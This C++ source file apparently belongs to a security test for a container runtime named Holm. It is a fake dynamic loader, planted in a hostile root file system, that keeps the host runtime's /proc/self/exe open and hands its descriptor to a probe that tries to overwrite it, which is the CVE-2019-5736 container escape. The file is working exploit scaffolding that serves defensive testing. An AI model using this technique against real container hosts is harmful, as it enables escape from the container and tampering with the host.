// A false dynamic loader (ld.so) of a hostile root file system. The kernel maps it when somebody executes a
// dynamic program; if that program is Holm's own, this runs as Holm, and /proc/self/exe is Holm's file on the
// host. It keeps that file open and lets the probe try to rewrite it (CVE-2019-5736). No C library: it would
// take Holm's headers for its own.
#include <fcntl.h>
#include <sys/syscall.h>

namespace {

long call(long number, long a, long b, long c) {
  long result = 0;
  __asm__ volatile("syscall" : "=a"(result) : "a"(number), "D"(a), "S"(b), "d"(c) : "rcx", "r11", "memory");
  return result;
}

// Not on the stack: kernels before 6.6 refuse an interpreter without a writable segment, as they clear the
// rest of its last page.
char path[] = "/proc/self/fd/0";

long address(const void* pointer) { return reinterpret_cast<long>(pointer); }

}  // namespace

extern "C" [[noreturn]] void loader_main();

__asm__(".globl _start\n_start:\n  and $-16, %rsp\n  call loader_main\n");

void loader_main() {
  const char* arguments[] = {"probe", "rewrite", path, nullptr};
  const char* environment[] = {nullptr};
  const long fd = call(SYS_open, address("/proc/self/exe"), O_PATH, 0);
  if (fd >= 0 && fd < 10) path[sizeof path - 2] = static_cast<char>('0' + fd);
  call(SYS_execve, address("/probe"), address(arguments), address(environment));
  call(SYS_exit_group, 99, 0, 0);
  for (;;) {
  }
}
